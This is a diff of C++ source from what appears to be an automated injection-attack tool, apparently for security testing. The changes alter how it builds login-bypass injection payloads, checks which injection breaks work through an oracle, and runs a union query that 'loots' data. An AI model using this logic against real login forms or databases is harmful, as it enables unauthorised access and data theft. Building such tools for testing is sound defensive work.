@@ -46,11 +46,6 @@ Guess guess_list(Parameter const& parameter) {
     return {list_frames(items.empty() ? "1" : items.front()), list_breaks()};
 }
 
-Guess guess_for(Target& target, Parameter const& parameter) {
-    if (is_list(parameter)) return guess_list(parameter);
-    return is_number(parameter) ? guess_number(parameter) : guess_text(target, parameter);
-}
-
 Guess guess_login(Target& target, Endpoint const& login, std::size_t index) {
     Parameter const& parameter = login.parameters[index];
     std::string const nothing = random_word(target, 6);
@@ -62,17 +57,19 @@ Guess guess_login(Target& target, Endpoint const& login, std::size_t index) {
     }
     Guess guess = guess_text(target, parameter);
     // One row only, whose password the attacker knows.
-    std::string const own = ")*(" + login.parameters[index].name + "=" +
-                            characters(target.surface().attacker.username) + ")";
-    for (Break const& each : text_breaks(nothing))
-        guess.frames.push_back({each.open + "=0=(", own + each.tail});
+    std::string const own =
+        ")*(" + parameter.name + "=" + characters(target.surface().attacker.username) + ")";
+    for (Break const& each : text_breaks(nothing)) {
+        if (each.tail == "/*-") continue;
+        guess.frames.push_back({each.open + "=0=(", own + each.chained_tail.substr(1)});
+    }
     return guess;
 }
 
 std::vector<Break> working_breaks(Entry& entry, std::vector<Break> const& breaks) {
     std::vector<Break> working;
     for (Break const& each : breaks) {
-        if (Oracle::find(entry, {each.open + "=0=(", ")" + each.tail})) working.push_back(each);
+        if (Oracle::find(entry, each.chained())) working.push_back(each);
     }
     return working;
 }
@@ -85,7 +82,7 @@ bool intrude(Entry& entry, Guess const& guess) {
         if (!union_tried) {
             union_tried = true;
             std::optional<UnionQuery> const query =
-                UnionQuery::find(entry, working_breaks(entry, guess.breaks));
+                UnionQuery::find(*oracle, working_breaks(entry, guess.breaks));
             if (query) {
                 query->loot();
                 return true;
